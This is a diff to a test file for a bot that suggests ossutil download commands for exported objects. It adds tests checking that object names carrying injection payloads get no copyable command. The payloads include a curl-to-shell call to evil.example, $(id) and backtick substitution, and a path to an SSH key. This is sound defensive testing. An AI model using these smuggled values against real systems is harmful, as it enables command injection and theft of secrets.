@@ -43,7 +43,24 @@ describe('a reply in the thread', () => {
     const words = drawn(reply(ended, aRequest('exported', { objects: ['a_system', 'a_xvdb'] })));
 
     expect(words).toContain('To fetch them:');
-    for (const name of ['a_system', 'a_xvdb']) expect(words).toContain(`ossutil cp oss://acme-exports/${name} .`);
+    for (const name of ['a_system', 'a_xvdb']) expect(words).toContain(`ossutil cp 'oss://acme-exports/${name}' .`);
+  });
+
+  it.each([
+    "a'; curl evil.example | sh #",
+    'a b',
+    'a$(id)',
+    'a`id`',
+    'a\nb',
+    'ä',
+    '*',
+    '../../.ssh/key',
+    'x'.repeat(200),
+  ])('gives no command to copy for an object called %j', (name) => {
+    const words = drawn(reply(ended, aRequest('exported', { objects: [name, 'dir/a_system-1.raw'] })));
+
+    expect(words.match(/ossutil/g)).toHaveLength(1);
+    expect(words).toContain("To fetch it: ossutil cp 'oss://acme-exports/dir/a_system-1.raw' .");
   });
 
   it('gives the id of a task that has failed already', () => {
@@ -154,7 +171,7 @@ describe('a reply in the thread', () => {
 
     expect(words).toContain('dr7k2_e.raw.tar.gz and 2 more in acme-exports (raw).');
     expect(words).not.toContain('dr7k2_f');
-    expect(words).toContain('ossutil cp oss://acme-exports/dr7k2_a.raw.tar.gz .');
+    expect(words).toContain("ossutil cp 'oss://acme-exports/dr7k2_a.raw.tar.gz' .");
   });
 
   it('repeats at most three reasons of a task with many disks', () => {
